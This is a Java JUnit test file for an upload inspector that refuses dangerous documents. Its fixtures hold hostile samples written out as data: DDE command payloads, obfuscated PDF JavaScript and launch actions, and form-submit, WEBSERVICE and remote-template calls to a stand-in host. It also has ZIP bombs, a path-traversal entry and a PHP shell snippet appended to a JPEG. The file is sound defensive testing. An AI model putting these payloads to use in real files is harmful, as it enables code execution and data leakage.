package org.portailsolidaire.platform.documents.inspection;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;

import org.junit.jupiter.api.Tag;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import org.portailsolidaire.platform.documents.DocumentFormat;
import org.portailsolidaire.platform.documents.DocumentKind;
import org.portailsolidaire.platform.documents.MadeOffice;
import org.portailsolidaire.platform.documents.MadePdf;
import org.portailsolidaire.platform.documents.MadePicture;
import org.portailsolidaire.platform.documents.Wired;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.argumentSet;

/** Each refusal, with a file that was really made so. */
@Tag("portal")
class RefusalTests {

	private static final Wired.Settings SETTINGS = Wired.settings(Wired.NO_SCANNER, Wired.NO_BUCKET);

	private static final String ODT = DocumentFormat.ODT.mediaType();

	/** Where the process reads, the test does: all of it would take a minute. */
	private final Inspector inspector = new Inspector((reading, file, made, by) -> reading.read(file, made,
			new Reading.Limits(SETTINGS.inspection().pixels(), SETTINGS.inspection().imageMemory())));

	static Stream<Arguments> refused() {
		byte[] exe = Arrays.copyOf("MZ\u0090\0\u0003\0\0\0".getBytes(StandardCharsets.ISO_8859_1), 4096);
		return Stream.of(file("zero bytes", "a.pdf", DocumentKind.PDF, new byte[0], "vide"),
				file("a program named .pdf", "a.pdf", DocumentKind.PDF, exe, "type"),
				file("HTML named .jpg", "a.jpg", DocumentKind.IMAGE, text("<!doctype html><script>1</script>"), "type"),
				file("SVG", "a.svg", DocumentKind.IMAGE,
						text("<svg xmlns=\"http://www.w3.org/2000/svg\"><script/></svg>"), "type"),
				file("a picture where a sheet is asked", "a.png", DocumentKind.SHEET, MadePicture.png(2, 2), "type"),
				file("a text without magic", "a.pdf", DocumentKind.ANY, text("bonjour"), "type"),
				file("a PDF named .docx", "a.docx", DocumentKind.TEXT, MadePdf.modern(), "deguise"),
				file("a Word text named .pdf", "a.pdf", DocumentKind.ANY, MadeOffice.docx(), "deguise"),
				file("half a PDF", "a.pdf", DocumentKind.PDF, half(MadePdf.plain()), "pdf-tronque"),
				file("half a modern PDF", "a.pdf", DocumentKind.PDF, half(MadePdf.modern()), "pdf-tronque"),
				file("a PDF under a password", "a.pdf", DocumentKind.PDF, MadePdf.encrypted("secret"), "pdf-chiffre"),
				file("JavaScript in a PDF", "a.pdf", DocumentKind.PDF, MadePdf.withJavaScript(false), "pdf-actif"),
				file("JavaScript in compressed objects", "a.pdf", DocumentKind.PDF, MadePdf.withJavaScript(true),
						"pdf-actif"),
				file("JavaScript under another spelling", "a.pdf", DocumentKind.PDF, MadePdf.withHiddenJavaScript(),
						"pdf-actif"),
				file("a PDF that launches a program", "a.pdf", DocumentKind.PDF, MadePdf.withLaunch(), "pdf-actif"),
				file("a PDF whose pages miss", "a.pdf", DocumentKind.PDF, cut(MadePdf.pages(9), 0.5), "pdf-tronque"),
				file("a PDF that lost its last line", "a.pdf", DocumentKind.PDF, cut(MadePdf.pages(9), 0.95),
						"pdf-tronque"),
				file("a PDF whose second version was cut", "a.pdf", DocumentKind.PDF,
						joined(MadePdf.plain(), text("3 0 obj\n<< /Type /Page /Contents (")), "pdf-tronque"),
				file("HTML before a PDF", "a.pdf", DocumentKind.PDF,
						joined(text("<!doctype html><script>1</script>"), MadePdf.plain()), "type"),
				file("a program before a PDF", "a.pdf", DocumentKind.PDF, joined(exe, MadePdf.plain()), "type"),
				file("a PDF that is also a ZIP", "a.pdf", DocumentKind.PDF,
						joined(MadePdf.holding(100, ""), MadeOffice.docx()), "double"),
				file("a Word text with macros", "a.docx", DocumentKind.TEXT, MadeOffice.docm(), "macros"),
				file("vbaProject hidden in a .docx", "a.docx", DocumentKind.TEXT,
						MadeOffice.docx("word/vbaProject.bin", "x"), "macros"),
				file("macros in a sheet", "a.xlsx", DocumentKind.SHEET, MadeOffice.xlsx("xl/vbaProject.bin", "x"),
						"macros"),
				file("macros in an OpenDocument text", "a.odt", DocumentKind.TEXT,
						MadeOffice.opendocument(ODT, "Basic/Standard/Module1.xml", "<script:module/>"), "macros"),
				file("an OpenDocument text under a password", "a.odt", DocumentKind.TEXT,
						MadeOffice.opendocument(ODT, "META-INF/manifest.xml", "<manifest:encryption-data/>"),
						"chiffre"),
				file("a Word text under a password", "a.docx", DocumentKind.TEXT, MadeOffice.ole("EncryptedPackage"),
						"chiffre"),
				file("a ZIP under a password", "a.docx", DocumentKind.TEXT, MadeOffice.encrypted(), "chiffre"),
				file("a Word text of 2003", "a.doc", DocumentKind.TEXT, MadeOffice.ole("WordDocument"), "ancien"),
				file("half a Word text", "a.docx", DocumentKind.TEXT, half(MadeOffice.docx()), "tronque"),
				file("a Word text with something behind", "a.docx", DocumentKind.TEXT,
						joined(MadeOffice.docx(), text("MZ")), "tronque"),
				file("a ZIP that is no document", "a.docx", DocumentKind.TEXT, MadeOffice.manyEntries(3), "type"),
				file("a ZIP bomb", "a.docx", DocumentKind.TEXT, MadeOffice.bomb(400), "bombe"),
				file("a ZIP of many entries", "a.docx", DocumentKind.TEXT, MadeOffice.manyEntries(6000), "bombe"),
				file("an entry that climbs", "a.docx", DocumentKind.TEXT, MadeOffice.docx("../../etc/passwd", "x"),
						"illisible"),
				file("a picture of a billion pixels", "a.png", DocumentKind.IMAGE, MadePicture.claiming(29_000, 29_000),
						"pixels"),
				file("a picture of a single endless line", "a.png", DocumentKind.IMAGE,
						MadePicture.claiming(2_000_000_000, 1), "pixels"),
				file("a JPEG of two hundred passes", "a.jpg", DocumentKind.IMAGE, MadePicture.passes(4000, 4000, 200),
						"passes"),
				file("a JPEG of passes too large to hold", "a.jpg", DocumentKind.IMAGE,
						MadePicture.passes(8000, 8000, 2), "passes"),
				file("a WebP too large to hold", "a.webp", DocumentKind.IMAGE, MadePicture.tables(4400, 1), "webp"),
				file("half a JPEG", "a.jpg", DocumentKind.IMAGE, half(MadePicture.jpeg(400, 300)), "tronque"),
				file("half a PNG", "a.png", DocumentKind.IMAGE, half(MadePicture.png(400, 300)), "tronque"),
				file("half a WebP", "a.webp", DocumentKind.IMAGE, half(MadePicture.webp()), "tronque"),
				file("eleven megabytes", "a.pdf", DocumentKind.PDF, MadePdf.holding(11 * 1024 * 1024, ""), "lourd"),
				file("eleven megabytes of another kind", "a.png", DocumentKind.IMAGE,
						MadePdf.holding(11 * 1024 * 1024, ""), "lourd", "type"));
	}

	/** What a PDF may do, and each way of hiding it. */
	static Stream<Arguments> active() {
		String script = "/OpenAction<</S/JavaScript/JS(1)>>";
		return Stream.of(file("packed once", "a.pdf", DocumentKind.PDF, MadePdf.with(script), "pdf-actif"),
				file("packed twice", "a.pdf", DocumentKind.PDF, MadePdf.packedTwice(script), "pdf-tronque"),
				file("in hexadecimal", "a.pdf", DocumentKind.PDF, MadePdf.packedInHexadecimal(script), "pdf-actif"),
				file("endobj in a string", "a.pdf", DocumentKind.PDF, MadePdf.packedAfter("/X(endobj)", script),
						"pdf-actif"),
				file("endobj in a comment", "a.pdf", DocumentKind.PDF, MadePdf.packedAfter("%endobj\n", script),
						"pdf-actif"),
				file("endobj in a name", "a.pdf", DocumentKind.PDF, MadePdf.packedAfter("/endobj 1", script),
						"pdf-actif"),
				file("endstream in a string", "a.pdf", DocumentKind.PDF,
						MadePdf.packedAfter("/X(endstream endobj)", script), "pdf-actif"),
				file("under another spelling", "a.pdf", DocumentKind.PDF,
						MadePdf.packedTwice("/OpenAction<</S/J#61vaScript/#4AS(1)>>"), "pdf-tronque"),
				file("under a restriction", "a.pdf", DocumentKind.PDF, MadePdf.restrictedWithJavaScript(), "pdf-actif"),
				file("with a wrong table", "a.pdf", DocumentKind.PDF,
						MadePdf.withWrongTable(MadePdf.packedTwice(script)), "pdf-tronque"),
				file("sends its form", "a.pdf", DocumentKind.PDF,
						MadePdf.with("/AA<</WC<</S/SubmitForm/F(http://a.example)>>>>"), "pdf-actif"),
				file("opens another file", "a.pdf", DocumentKind.PDF,
						MadePdf.with("/OpenAction<</S/GoToR/D[0]/F(//a.example/b)>>"), "pdf-actif"),
				file("plays a film", "a.pdf", DocumentKind.PDF, MadePdf.with("/X[<</Type/Annot/Subtype/RichMedia>>]"),
						"pdf-actif"),
				file("XFA", "a.pdf", DocumentKind.PDF, MadePdf.with("/AcroForm<</Fields[]/XFA[(a)(b)]>>"),
						"pdf-formulaire"),
				file("embedded files", "a.pdf", DocumentKind.PDF,
						MadePdf.with("/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<<>>>>]>>>>"),
						"pdf-joint"),
				file("a file pinned to a page", "a.pdf", DocumentKind.PDF,
						MadePdf.packedTwice("/X[<</Type/Annot/Subtype/FileAttachment>>]"), "pdf-tronque"),
				file("a portfolio", "a.pdf", DocumentKind.PDF, MadePdf.with("/Collection<</View/D>>"), "pdf-joint"));
	}

	/** What a text or a sheet may do when it is opened. */
	static Stream<Arguments> activeOffice() {
		String relation = "<Relationships><Relationship Id=\"a\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s\" Target=\"%s\" TargetMode=\"External\"/></Relationships>";
		String field = "<w:document><w:r><w:fldChar w:fldCharType=\"begin\"/>%s<w:fldChar w:fldCharType=\"separate\"/></w:r></w:document>";
		String ods = DocumentFormat.ODS.mediaType();
		return Stream.of(
				docx("a remote template", "word/_rels/settings.xml.rels",
						relation.formatted("attachedTemplate", "http://a.example/a.dotm"), "distant"),
				docx("a template of a share", "word/_rels/settings.xml.rels",
						relation.formatted("attachedTemplate", "\\\\a.example\\a.dotm"), "distant"),
				docx("a remote picture", "word/_rels/document.xml.rels",
						relation.formatted("image", "http://a.example/"), "distant"),
				docx("a remote frame", "word/_rels/webSettings.xml.rels",
						relation.formatted("frame", "http://a.example/"), "distant"),
				docx("an OLE link", "word/_rels/document.xml.rels", relation.formatted("oleObject", "file:///a.xls"),
						"objets"),
				docx("DDE in a field", "word/document.xml",
						"<w:document><w:fldSimple w:instr=\" DDEAUTO c:\\cmd.exe\"/></w:document>", "liaison"),
				docx("DDE cut in parts", "word/document.xml",
						field.formatted("<w:instrText>DD</w:instrText><w:instrText>EAUTO cmd</w:instrText>"),
						"liaison"),
				docx("DDE in a footer", "word/footer1.xml", field.formatted("<w:instrText> dde cmd</w:instrText>"),
						"liaison"),
				docx("DDE spelled by codes", "word/document.xml",
						field.formatted("<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText>"), "liaison"),
				docx("DDE in a part of another name", "word/other.dat",
						field.formatted("<w:instrText>DDE cmd</w:instrText>"), "liaison"),
				docx("an OLE object", "word/embeddings/oleObject1.bin",
						new String(MadeOffice.ole("Package"), StandardCharsets.ISO_8859_1), "objets"),
				docx("an OLE object in the text", "word/document.xml",
						"<w:document><o:OLEObject Type=\"Embed\" ProgID=\"Package\"/></w:document>", "objets"),
				docx("ActiveX", "word/activeX/activeX1.xml", "<ax:ocx ax:classid=\"{0}\"/>", "objets"),
				docx("a program", "word/media/a.exe", "MZ", "objets"),
				docx("HTML that is taken in", "word/document.xml", "<w:document><w:altChunk r:id=\"a\"/></w:document>",
						"objets"),
				docx("entities", "word/document.xml", "<!DOCTYPE a [<!ENTITY b \"DDE\">]><a>&b;</a>", "illisible"),
				xlsx("DDE in a link", "xl/externalLinks/externalLink1.xml",
						"<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>", "liaison"),
				xlsx("DDE in a formula", "xl/worksheets/sheet1.xml",
						"<worksheet><c><f>cmd|'/c calc'!A1</f></c></worksheet>", "liaison"),
				xlsx("a formula that calls elsewhere", "xl/worksheets/sheet1.xml",
						"<worksheet><c><f>WEBSERVICE(\"http://a.example\")</f></c></worksheet>", "liaison"),
				xlsx("an OLE object in a sheet", "xl/worksheets/sheet1.xml",
						"<worksheet><oleObjects><oleObject progId=\"Package\"/></oleObjects></worksheet>", "objets"),
				xlsx("macros of Excel 4", "[Content_Types].xml",
						"<Types><Override ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/>"
								+ "<Override ContentType=\"spreadsheetml.sheet.main+xml\"/></Types>",
						"macros"),
				opendocument("an event listener", ODT,
						"<office:event-listeners><script:event-listener xlink:href=\"vnd.sun.star.script:a\"/></office:event-listeners>",
						"macros"),
				opendocument("a link to a macro", ODT,
						"<text:a xlink:href=\"vnd.sun.star.script:a$b?language=Basic\">a</text:a>", "macros"),
				opendocument("DDE", ods, "<table:dde-links><table:dde-link/></table:dde-links>", "liaison"),
				opendocument("DDE in a section", ODT,
						"<text:section><office:dde-source office:dde-application=\"cmd\"/></text:section>", "liaison"),
				opendocument("DDE in a formula", ods,
						"<table:table-cell table:formula=\"of:=DDE(&quot;cmd&quot;;&quot;/c&quot;;&quot;a&quot;)\"/>",
						"liaison"),
				opendocument("an OLE object", ODT, "<draw:object-ole xlink:href=\"./Object 1\"/>", "objets"),
				opendocument("a remote picture", ODT, "<draw:image xlink:href=\"http://a.example/a.png\"/>", "distant"),
				opendocument("a remote section", ODT, "<text:section-source xlink:href=\"http://a.example/a.odt\"/>",
						"distant"));
	}

	/** What is like it, and does nothing. */
	static Stream<Arguments> quietOffice() {
		String link = "<Relationships><Relationship Id=\"a\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://a.example\" TargetMode=\"External\"/></Relationships>";
		return Stream.of(docx("a link", "word/_rels/document.xml.rels", link), docx(
				"a field cut in the middle of a word", "word/document.xml",
				"<w:document><w:fldChar w:fldCharType=\"begin\"/><w:instrText>HYPER</w:instrText><w:instrText>LINK \"a\"</w:instrText><w:fldChar w:fldCharType=\"end\"/></w:document>"),
				docx("a part that is empty", "customXml/item1.xml", ""),
				docx("the table that a chart was drawn from", "word/embeddings/a.xlsx",
						new String(MadeOffice.xlsx(), StandardCharsets.ISO_8859_1)),
				xlsx("a sheet whose name has a bar", "xl/worksheets/sheet1.xml",
						"<worksheet><c><f>'Budget|2026'!A1&amp;\"a|b\"</f></c></worksheet>"),
				xlsx("a link to another workbook", "xl/externalLinks/_rels/externalLink1.xml.rels",
						link.replace("/hyperlink", "/externalLinkPath")),
				opendocument("a table in a formula", DocumentFormat.ODS.mediaType(),
						"<table:table-cell table:formula=\"of:=SUM({1;2|3;4})\"/>"),
				opendocument("a chart", ODT, "<draw:object xlink:href=\"./Object 1\"/><office:event-listeners/>"));
	}

	private static Arguments docx(String what, String part, String content, String... reasons) {
		return file(what, "a.docx", DocumentKind.TEXT, MadeOffice.docx(part, content), reasons);
	}

	private static Arguments xlsx(String what, String part, String content, String... reasons) {
		return file(what, "a.xlsx", DocumentKind.SHEET, MadeOffice.xlsx(part, content), reasons);
	}

	private static Arguments opendocument(String what, String mediaType, String body, String... reasons) {
		return file(what, "a", DocumentKind.ANY, MadeOffice.opendocument(mediaType, "content.xml",
				"<office:document-content>" + body + "</office:document-content>"), reasons);
	}

	private static Arguments file(String what, String name, DocumentKind kind, byte[] bytes, String... reasons) {
		return argumentSet(what, name, kind, bytes, Arrays.stream(reasons).map("documents.refus."::concat).toList());
	}

	@ParameterizedTest
	@MethodSource({ "refused", "active", "activeOffice" })
	void isRefusedForItsReasons(String name, DocumentKind kind, byte[] bytes, List<String> reasons) {
		assertThat(keys(name, kind, bytes)).isEqualTo(reasons);
	}

	static Stream<Arguments> accepted() {
		return Stream.of(file("a PDF", "a.pdf", DocumentKind.PDF, MadePdf.plain()),
				file("a modern PDF", "A.PDF", DocumentKind.PROOF, MadePdf.modern()),
				file("a PDF without extension", "statuts", DocumentKind.PDF, MadePdf.plain()),
				file("random bytes in a PDF", "a.pdf", DocumentKind.PDF, MadePdf.holding(9 * 1024 * 1024, "")),
				file("a JPEG", "a.jpeg", DocumentKind.IMAGE, MadePicture.jpeg(40, 30)),
				file("a JPEG in passes", "a.jpg", DocumentKind.IMAGE, MadePicture.progressive(400, 300)),
				file("a JPEG named .png", "a.png", DocumentKind.IMAGE, MadePicture.jpeg(40, 30)),
				file("a JPEG with a program behind", "a.jpg", DocumentKind.IMAGE,
						joined(MadePicture.jpeg(40, 30), text("<?php system('id') ?>"))),
				file("a PNG", "a.png", DocumentKind.PROOF, MadePicture.png(40, 30)),
				file("a WebP", "a.webp", DocumentKind.IMAGE, MadePicture.webp()),
				file("a Word text", "a.docx", DocumentKind.TEXT, MadeOffice.docx()),
				file("an Excel sheet", "a.xlsx", DocumentKind.SHEET, MadeOffice.xlsx()),
				file("an OpenDocument text", "a.odt", DocumentKind.TEXT, MadeOffice.opendocument(ODT)),
				file("an OpenDocument text with an empty library", "a.odt", DocumentKind.TEXT,
						MadeOffice.opendocument(ODT, "Basic/Standard/script-lb.xml", "<library/>")),
				file("an OpenDocument sheet", "a.ods", DocumentKind.SHEET,
						MadeOffice.opendocument(DocumentFormat.ODS.mediaType())));
	}

	@ParameterizedTest
	@MethodSource({ "accepted", "lenient", "quietOffice" })
	void isAccepted(String name, DocumentKind kind, byte[] bytes, List<String> reasons) {
		assertThat(keys(name, kind, bytes)).isEqualTo(reasons).isEmpty();
	}

	/** Keys of the reasons, in order. */
	private List<String> keys(String name, DocumentKind kind, byte[] bytes) {
		long largest = SETTINGS.largest(kind);
		List<String> keys = new ArrayList<>();
		try (Spool spool = Spool.of(new ByteArrayInputStream(bytes), largest);
				Spool made = Spool
					.written((file) -> this.inspector.inspect(spool, new Claim(name, kind, Wired.FANTA), largest, file)
						.reasons()
						.forEach((reason) -> keys.add(reason.key())))) {
			return keys;
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/** What every reader opens. */
	static Stream<Arguments> lenient() {
		byte[] pages = MadePdf.pages(3);
		return Stream.of(file("something before", "a.pdf", DocumentKind.PDF, joined(text("\r\n\uFEFF\n"), pages)),
				file("a head of a mail before", "a.pdf", DocumentKind.PDF,
						joined(text("Content-Type: application/pdf\r\n\r\n"), MadePdf.modern())),
				file("bytes before", "a.pdf", DocumentKind.PDF, joined(new byte[200], MadePdf.modern())),
				file("lines after", "a.pdf", DocumentKind.PDF, joined(pages, text("\n\n<!-- 0.3 s -->\n"))),
				file("a page of zeros after", "a.pdf", DocumentKind.PDF, joined(MadePdf.modern(), new byte[9000])),
				file("a wrong table", "a.pdf", DocumentKind.PDF, MadePdf.withWrongTable(pages)),
				file("a wrong table and packed objects", "a.pdf", DocumentKind.PDF,
						MadePdf.withWrongTable(MadePdf.modern())),
				file("a restriction of its owner", "a.pdf", DocumentKind.PDF, MadePdf.restricted()),
				file("an older restriction", "a.pdf", DocumentKind.PDF, MadePdf.encrypted("")),
				file("a link", "a.pdf", DocumentKind.PDF,
						MadePdf.with("/X[<</Type/Annot/Subtype/Link/A<</S/URI/URI(http://a.example)>>>>]")),
				file("a name with dots", "Statuts v2.final", DocumentKind.PDF, pages),
				file("a name with a year", "rapport.2026", DocumentKind.PDF, pages),
				file("a name of a person", "M.Dupont", DocumentKind.PDF, pages),
				file("an address", "www.association.org", DocumentKind.PDF, pages),
				file("dots before the extension", "budget.v3.signé.PDF", DocumentKind.PDF, pages));
	}

	private static byte[] cut(byte[] bytes, double part) {
		return Arrays.copyOf(bytes, (int) (bytes.length * part));
	}

	private static byte[] half(byte[] bytes) {
		return Arrays.copyOf(bytes, bytes.length / 2);
	}

	private static byte[] joined(byte[] first, byte[] second) {
		byte[] both = Arrays.copyOf(first, first.length + second.length);
		System.arraycopy(second, 0, both, first.length, second.length);
		return both;
	}

	private static byte[] text(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

}
